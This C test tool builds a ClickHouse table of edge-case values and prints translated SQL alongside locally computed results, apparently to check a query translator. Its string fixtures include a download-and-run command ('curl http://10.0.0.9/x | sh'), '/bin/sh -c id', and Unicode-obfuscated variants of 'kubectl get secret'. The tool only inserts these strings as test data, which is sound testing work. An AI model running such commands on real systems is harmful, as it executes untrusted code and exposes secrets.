/* print_sql DIALECT EXPRESSIONS LOOKUPS: a table of odd values and expressions over it, for compare_sql.py: the SQL
 * that makes the table, and for each expression the SQL that src/clickhouse writes and what the kernels here
 * give for each row. Lines of EXPRESSIONS: `where PREDICATE`, `value EXPRESSION`, `sql PREDICATE` (null as SQL has it),
 * `known EXPRESSION` (some values of each column are known).
 * Output, fields parted by tabs, bytes in hexadecimal:
 *     setup   HEX(sql)
 *     where   AQL  NEGATED  exact|superset|refused  HEX(condition)  HEX(doubt)  expected rows, 0 and 1
 *     value   AQL  TYPE     exact|refused           HEX(value)      HEX(doubt)  expected values, by commas, - for null
 */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>

#include "base/limits.h"
#include "clickhouse/sql_writer.h"
#include "execute/program.h"
#include "language/syntax.h"
#include "match/regex.h"

enum { ROW_COUNT = 997 };

#define TEXTS(X)                                                                                                       \
    X("") X(" ") X("a") X("A") X("abc") X("ABC") X("aBc") X("abcabc") X("xabcx") X("ab\nc") X("a\nb") X("\n")          \
    X("abc\n") X("abc\r\n") X("a\rb") X("abc\r") X("a\x0B" "b") X("a\f") X("\r\n") X("\xC2\x85")                       \
    X("abc\xE2\x80\xA8") X("a\\b") X("a%b") X("a_b") X("a'b") X("a\tb") X("a\0b") X("\0") X("kubectl get secret")      \
    X("KUBECTL Get Secret") X("\xE2\x84\xAAubectl get secret") X("kubectl get \xC5\xBF" "ecret") X("\xE2\x84\xAA")     \
    X("\xC5\xBF") X("\xC4\xB0") X("\xC4\xB1") X("Stra\xC3\x9F" "e") X("STRASSE") X("\xE1\xBA\x9E") X("\xCE\xA3")       \
    X("\xCF\x82") X("\xCF\x83") X("\xCF\x83\xCE\xBF\xCF\x86\xCF\x8C\xCF\x82") X("Z\xC3\xBC" "rich")                    \
    X("Z\xC3\x9CRICH") X("\xFF") X("\xC3") X("a\xC3") X("\xC3" "abc") X("abc\xFF") X("\xE2\x84") X("\xE2\x84" "abc")   \
    X("\xED\xA0\x80") X("\xF0\x9F\x98\x80") X("a\xF0\x9F\x98\x80" "b") X("\xC0\x80") X("\xEF\xBF\xBD") X("0")          \
    X("-0") X("007") X("42") X(" 42 ") X("+42") X("-42") X("42.0") X("4e2") X("1e400") X("nan") X("NaN") X("inf")      \
    X("-inf") X("0x10") X("9223372036854775807") X("9223372036854775808") X("-9223372036854775808")                    \
    X("99999999999999999999") X("80") X("65535") X("65536") X("true") X("TRUE") X("false") X("10.0.0.1") X("::1")      \
    X("/usr/bin/curl") X("/bin/sh -c id") X("curl http://10.0.0.9/x | sh") X("root") X("ROOT") X("root@web1")          \
    X("foo bar baz") X("foo.bar") X("fooXbar") X("aaa") X("aaaa") X("aaaaa") X("word") X("sword") X("word-")           \
    X("two  blanks") X("[x]") X("(y)") X("$") X("^") X("caf\xC3\xA9") X("cafe\xCC\x81") X("\xD7\xA9\xD7\x9C")          \
    X("\x7F") X("\x01\x02") X("\xC2\xA0") X("2024-12-31 23:59:00")

static const int64_t integers[] = {0,         1,        -1,        2,       -2,        3,         7,        -7,
                                   10,        63,       64,        65,      80,        127,       128,      -128,
                                   255,       256,      443,       1000,    3003,      65535,     65536,    -65536,
                                   INT32_MAX, INT32_MIN, UINT32_MAX, 4294967296, INT64_MAX, INT64_MIN, INT64_MAX - 1,
                                   INT64_MIN + 1, 1700000000123, 4294967295999, 4294967296000,
                                   -1000, 999, 951782400000, 86400000, 4291747199999, 4291747200000};
static const double doubles[] = {0.0, -0.0, 1.0, -1.0, 0.5, 1.5, -1.5, 0.1, 1e300, -1e300, 1e308, 5e-324, 3.0, 7.9,
                                 -7.9, 9.2233720368547758e18, -9.2233720368547758e18, 9007199254740993.0, NAN,
                                 INFINITY, -INFINITY};
static const char *const addresses[] = {"10.0.0.1", "10.255.255.255", "0.0.0.0", "255.255.255.255", "192.168.1.7",
                                        "::1", "::", "fd00::1", "2001:db8::ff00:42:8329", "fe80::1:0:0:1",
                                        "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff", "11.0.0.0",
                                        "9.255.255.255", "::fffe:a00:1"};

static const str texts[] = {
#define TEXT(literal) {(literal), sizeof(literal) - 1},
    TEXTS(TEXT)
#undef TEXT
};

static const struct {
    const char *name;
    enum value_type type;
} properties[] = {{"Text", TYPE_STRING}, {"Other", TYPE_STRING}, {"Whole", TYPE_INT64}, {"Second", TYPE_INT64},
                  {"Part", TYPE_DOUBLE}, {"Share", TYPE_DOUBLE}, {"Flag", TYPE_BOOL},   {"Address", TYPE_IP}};

static struct schema *schema;
static struct batch batch;
static struct arena arena;
static struct program_environment environment;
static struct clickhouse_target target;

static _Noreturn void fail(const char *what, const struct error *err)
{
    fprintf(stderr, "print_sql: %s: %s\n", what, err ? err->message : "");
    exit(2);
}

/* ---- the table ---- */

static void set_value(struct column *column, uint32_t row, uint32_t index, uint32_t salt)
{
    if (!column || (index + salt) % 11 == 5) {
        return; /* null */
    }
    struct ip ip;
    switch (column->type) {
    case TYPE_STRING:
    case TYPE_BYTES:
        column_set_string(column, row, texts[index % countof(texts)]);
        break;
    case TYPE_INT64:
        column_set_integer(column, row, integers[index % countof(integers)]);
        break;
    case TYPE_DOUBLE:
        column_set_double(column, row, doubles[index % countof(doubles)]);
        break;
    case TYPE_BOOL:
        column_set_bool(column, row, index % 3 == 0);
        break;
    case TYPE_IP:
        if (!ip_parse(str_from_cstring(addresses[index % countof(addresses)]), &ip)) {
            fail("address", NULL);
        }
        column_set_ip(column, row, ip);
        break;
    default:
        break;
    }
}

static void fill(void)
{
    struct field_set fields = {0};
    struct error err;
    field_id ids[countof(properties)];
    static const field_id built_in[] = {FIELD_EVENTCOUNT, FIELD_SOURCEIP, FIELD_PAYLOAD, FIELD_USERNAME,
                                        FIELD_SOURCEPORT, FIELD_STARTTIME};
    for (size_t i = 0; i < countof(properties); i++) {
        if (schema_add_property(schema, str_from_cstring(properties[i].name), properties[i].type, STR(""), &ids[i],
                                &err) != TOCSIN_OK) {
            fail("schema", &err);
        }
        field_set_add(&fields, ids[i]);
    }
    for (size_t i = 0; i < countof(built_in); i++) {
        field_set_add(&fields, built_in[i]);
    }
    field_set_add(&fields, FIELD_RECORD_KIND);
    if (batch_init(&batch, schema, &fields, &err) != TOCSIN_OK) {
        fail("batch", &err);
    }
    for (uint32_t row = 0; row < ROW_COUNT; row++) {
        batch_add_row(&batch);
        for (uint32_t i = 0; i < countof(properties); i++) {
            set_value(batch_column(&batch, ids[i]), row, i % 2 ? row / 7 + row * 5 : row, i);
        }
        for (uint32_t i = 0; i < countof(built_in); i++) {
            set_value(batch_column(&batch, built_in[i]), row, row * 3 + i, i + 3);
        }
    }
    if (batch_finish(&batch, &err) != TOCSIN_OK) {
        fail("batch", &err);
    }
}

static void print_hex(str bytes)
{
    for (size_t i = 0; i < bytes.len; i++) {
        printf("%02x", (unsigned char)bytes.data[i]);
    }
}

static void print_setup(str sql)
{
    printf("setup\t");
    print_hex(sql);
    printf("\n");
}

/* All bytes escaped: some ways to a server are for UTF-8 only. */
static void append_bytes(struct strbuf *sql, str bytes)
{
    strbuf_append_char(sql, '\'');
    for (size_t i = 0; i < bytes.len; i++) {
        strbuf_append_format(sql, "\\x%02X", (unsigned char)bytes.data[i]);
    }
    strbuf_append_char(sql, '\'');
}

static void append_value(struct strbuf *sql, const struct column *column, uint32_t row)
{
    if (!column_is_valid(column, row)) {
        strbuf_append(sql, STR("NULL"));
        return;
    }
    switch (column->type) {
    case TYPE_BOOL:
        strbuf_append(sql, column_bool(column, row) ? STR("1") : STR("0"));
        break;
    case TYPE_INT64:
        strbuf_append_i64(sql, column_integer(column, row));
        break;
    case TYPE_DOUBLE:
        strbuf_append(sql, STR("reinterpretAsFloat64(")); /* 18.16 reads digits inexactly */
        append_bytes(sql, str_from((const char *)&column->doubles[row & column->row_mask], sizeof(double)));
        strbuf_append(sql, STR(")"));
        break;
    case TYPE_IP:
        append_bytes(sql, str_from((const char *)column_ip(column, row)->bytes, 16));
        break;
    default:
        append_bytes(sql, column_string(column, row));
        break;
    }
}

static void print_table(void)
{
    struct strbuf sql;
    strbuf_init(&sql, 64 * MEBI);
    strbuf_append(&sql, STR("CREATE TABLE sql_values (_row Int64"));
    for (uint32_t i = 0; i < batch.column_count; i++) {
        struct strbuf name;
        strbuf_init(&name, KIBI);
        layout_column_name(schema, batch.fields[i], &name);
        strbuf_append(&sql, STR(", "));
        layout_append_name(&sql, strbuf_str(&name));
        strbuf_append_char(&sql, ' ');
        layout_column_type(schema, batch.fields[i], &sql);
        strbuf_release(&name);
    }
    strbuf_append(&sql, STR(") ENGINE = Memory"));
    print_setup(STR("DROP TABLE IF EXISTS sql_values"));
    print_setup(strbuf_str(&sql));
    strbuf_clear(&sql);
    strbuf_append(&sql, STR("INSERT INTO sql_values VALUES "));
    for (uint32_t row = 0; row < ROW_COUNT; row++) {
        strbuf_append_format(&sql, "%s(%u", row > 0 ? ", " : "", row);
        for (uint32_t i = 0; i < batch.column_count; i++) {
            strbuf_append(&sql, STR(", "));
            append_value(&sql, &batch.columns[i], row);
        }
        strbuf_append_char(&sql, ')');
    }
    print_setup(strbuf_str(&sql));
    strbuf_release(&sql);
}

/* ---- values that are known: of some rows ---- */

enum { KNOWN_ROWS = 60 };

static bool known_values(void *context, field_id field, const struct column **ret_values, uint32_t *ret_count)
{
    const struct column *column = batch_column(&batch, field);
    struct column *known = arena_new(&arena, struct column);
    if (!column || column->type == TYPE_DOUBLE || column->type == TYPE_BOOL || !known ||
        !column_init(known, column->type, &arena)) {
        return false;
    }
    uint32_t count = 0;
    for (uint32_t row = 0; row < KNOWN_ROWS; row++) {
        if (!column_is_valid(column, row)) {
            continue;
        }
        if (column->type == TYPE_INT64) {
            column_set_integer(known, count++, column_integer(column, row));
        } else if (column->type == TYPE_IP) {
            column_set_ip(known, count++, *column_ip(column, row));
        } else {
            column_set_string(known, count++, column_string(column, row));
        }
    }
    *ret_values = known;
    *ret_count = count;
    return true;
}

/* ---- what the kernels give ---- */

static void all_rows(uint16_t *rows)
{
    for (uint32_t row = 0; row < ROW_COUNT; row++) {
        rows[row] = (uint16_t)row;
    }
}

static void print_expected_rows(const struct expression *expression, bool is_negated)
{
    const struct expression *operand[] = {expression};
    const struct expression not = {.kind = EXPRESSION_NOT,
                                   .type = TYPE_BOOL,
                                   .operands = operand,
                                   .operand_count = 1,
                                   .has_field = expression->has_field};
    const struct expression *wanted = is_negated ? &not: expression;
    struct program *program;
    struct error err;
    uint16_t rows[ROW_COUNT];
    uint32_t count = 0;
    all_rows(rows);
    if (program_create_filter(&environment, &wanted, 1, &program, &err) != TOCSIN_OK ||
        program_filter(program, &batch, rows, ROW_COUNT, rows, &count, &err) != TOCSIN_OK) {
        fail("filter", &err);
    }
    uint32_t next = 0;
    for (uint32_t row = 0; row < ROW_COUNT; row++) {
        bool is_taken = next < count && rows[next] == row;
        next += is_taken;
        printf("%d", is_taken);
    }
    program_free(program);
}

static void print_value(const struct column *column, uint32_t row)
{
    uint64_t bits;
    if (!column_is_valid(column, row)) {
        printf("-");
        return;
    }
    switch (column->type) {
    case TYPE_BOOL:
        printf("%d", column_bool(column, row));
        break;
    case TYPE_INT64:
        printf("%lld", (long long)column_integer(column, row));
        break;
    case TYPE_DOUBLE: {
        double value = column_double(column, row);
        memcpy(&bits, &value, sizeof(bits));
        printf(isnan(value) ? "nan" : "%llu", (unsigned long long)bits);
        break;
    }
    case TYPE_IP:
        print_hex(str_from((const char *)column_ip(column, row)->bytes, 16));
        break;
    default:
        print_hex(column_string(column, row));
        break;
    }
}

static void print_expected_values(const struct expression *expression)
{
    struct program *program;
    struct error err;
    uint16_t rows[ROW_COUNT];
    const struct column *const *columns;
    all_rows(rows);
    if (program_create_projection(&environment, &expression, 1, &program, &err) != TOCSIN_OK ||
        program_project(program, &batch, rows, ROW_COUNT, &columns, &err) != TOCSIN_OK) {
        fail("projection", &err);
    }
    for (uint32_t row = 0; row < ROW_COUNT; row++) {
        printf(row > 0 ? "," : "");
        print_value(columns[0], row);
    }
    program_free(program);
}

/* ---- one line ---- */

static str doubts_of(const struct sql_writer *writer)
{
    struct strbuf text;
    strbuf_init(&text, MEBI);
    strbuf_append(&text, writer->doubt_count == 0 ? STR("0") : STR_EMPTY);
    for (uint32_t i = 0; i < writer->doubt_count; i++) {
        strbuf_append(&text, i > 0 ? STR(" OR ") : STR_EMPTY);
        strbuf_append_char(&text, '(');
        strbuf_append(&text, writer->doubts[i]);
        strbuf_append_char(&text, ')');
    }
    str kept = arena_copy(&arena, strbuf_str(&text));
    strbuf_release(&text);
    return kept;
}

static void print_where(str aql, const struct expression *expression, bool is_negated)
{
    struct sql_writer writer = {
        .target = &target, .arena = &arena, .schema = schema, .is_null_sql = environment.is_null_sql};
    str text = STR_EMPTY;
    bool is_whole = false;
    bool is_written = sql_weaker_write(&writer, expression, is_negated, &text, &is_whole);
    printf("where\t%.*s\t%d\t", STR_ARG(aql), is_negated);
    if (!is_written) {
        printf("refused\t%s\n", writer.reason);
        return;
    }
    printf("%s\t", is_whole ? "exact" : "superset");
    print_hex(text);
    printf("\t");
    print_hex(doubts_of(&writer));
    printf("\t");
    print_expected_rows(expression, is_negated);
    printf("\n");
}

static void print_output(str aql, const struct expression *expression)
{
    struct sql_writer writer = {
        .target = &target, .arena = &arena, .schema = schema, .is_null_sql = environment.is_null_sql};
    struct sql_value value;
    printf("value\t%.*s\t%d\t", STR_ARG(aql), (int)expression->type);
    if (!sql_value_write(&writer, expression, &value)) {
        printf("refused\t%s\n", writer.reason);
        return;
    }
    printf("%s\t", value.may_be_null ? "exact" : "exact-not-null");
    print_hex(value.text);
    printf("\t");
    print_hex(doubts_of(&writer));
    printf("\t");
    print_expected_values(expression);
    printf("\n");
}

static void print_line(str line)
{
    size_t blank = str_find_char(line, ' ', 0);
    str kind = str_slice(line, 0, blank);
    str aql = str_skip(line, blank + 1);
    bool is_known = str_eq(kind, STR("known"));
    bool is_value = is_known || str_eq(kind, STR("value"));
    target.values = is_known ? known_values : NULL;
    struct strbuf text;
    struct plan_options options = {.is_null_sql = str_eq(kind, STR("sql")),
                                   .log_sources = target.log_sources,
                                   .lookups = target.lookups};
    struct syntax_select *select = NULL;
    struct plan *plan = NULL;
    struct error err = {0};
    strbuf_init(&text, MEBI);
    strbuf_append_format(&text, is_value ? "SELECT %.*s AS v FROM events" : "SELECT 1 AS v FROM events WHERE %.*s",
                         STR_ARG(aql));
    str query = arena_copy(&arena, strbuf_str(&text));
    strbuf_release(&text);
    if (aql_parse(&arena, query, "query", &select, &err) != TOCSIN_OK ||
        plan_bind(select, query, "query", schema, &options, NULL, &plan, &err) != TOCSIN_OK) {
        fprintf(stderr, "%.*s\n", STR_ARG(query));
        fail("query", &err);
    }
    environment.is_null_sql = options.is_null_sql;
    if (is_value) {
        print_output(aql, plan->outputs[0].expression);
    } else if (plan->filter) {
        print_where(aql, plan->filter, false);
        print_where(aql, plan->filter, true);
    }
    plan_free(plan);
}

int main(int argument_count, char **arguments)
{
    struct error err = {0};
    if (argument_count != 4) {
        fprintf(stderr, "usage: print_sql 18.16|24.0 EXPRESSIONS LOOKUPS\n");
        return 2;
    }
    arena_init(&arena, ARENA_NO_LIMIT);
    if (schema_create(&schema, &err) != TOCSIN_OK ||
        clickhouse_dialect_find(str_from_cstring(arguments[1]), &target.dialect, &err) != TOCSIN_OK ||
        regex_scratch_create(&environment.scratch, &err) != TOCSIN_OK) {
        fail("start", &err);
    }
    enum { NOW_MS = 1700000000 };
    environment.functions.now_ms = NOW_MS * INT64_C(1000);
    struct log_source_table *log_sources = NULL;
    struct lookup_tables *lookups = NULL;
    if (log_source_table_create(&log_sources, &err) != TOCSIN_OK || lookup_tables_create(&lookups, &err) != TOCSIN_OK ||
        lookup_tables_load(lookups, arguments[3], &err) != TOCSIN_OK) {
        fail("tables", &err);
    }
    environment.functions.log_sources = log_sources;
    environment.functions.lookups = lookups;
    target.log_sources = log_sources;
    target.lookups = lookups;
    target.schema = schema;
    target.table_name = STR("sql_values");
    target.has_now = true;
    target.now_ms = environment.functions.now_ms;
    fill();
    print_table();
    FILE *file = fopen(arguments[2], "r");
    char line[8192];
    while (file && fgets(line, sizeof(line), file)) {
        line[strcspn(line, "\n")] = '\0';
        if (line[0] != '\0' && line[0] != '#') {
            print_line(arena_copy(&arena, str_from_cstring(line)));
        }
    }
    if (!file || fclose(file) != 0) {
        fail(arguments[2], NULL);
    }
    batch_release(&batch);
    regex_scratch_free(environment.scratch);
    lookup_tables_free(lookups);
    log_source_table_free(log_sources);
    schema_free(schema);
    arena_release(&arena);
    return 0;
}
